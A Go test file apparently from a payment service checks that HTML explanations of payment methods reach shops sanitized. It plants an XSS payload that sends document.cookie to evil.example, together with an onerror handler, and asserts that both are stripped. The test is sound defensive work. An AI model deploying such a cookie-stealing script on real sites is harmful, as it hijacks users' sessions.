package shopapi_test

import (
	"context"
	"net/http"
	"strings"
	"testing"

	"github.com/kessai/kessai/core/daemon/daemontest"
)

func TestPaymentMethodExplanationReachesShopsSanitized(t *testing.T) {
	h := daemontest.Start(t, daemontest.SQLite())
	ctx := context.Background()
	pm, err := h.D.Methods.ByName(ctx, h.Method)
	if err != nil {
		t.Fatal(err)
	}
	pm.Explanation = `<p>翌月後払い</p><script>document.location="https://evil.example/?c="+document.cookie</script><img src="x" onerror="alert(1)">`
	if _, err := h.D.Methods.Update(ctx, pm.ID, *pm, "test"); err != nil {
		t.Fatal(err)
	}
	r := h.Shop(t, "GET", "/api/v1/payment-methods", nil)
	expect(t, r, http.StatusOK)
	ms := r.Body["payment_methods"].([]any)
	ex := ms[0].(map[string]any)["explanation"].(string)
	if strings.Contains(ex, "<script") || strings.Contains(ex, "onerror") || strings.Contains(ex, "evil.example") {
		t.Fatalf("the shop API hands out %s", ex)
	}
	if !strings.Contains(ex, "<p>翌月後払い</p>") {
		t.Fatalf("the allowed HTML was lost: %s", ex)
	}
}
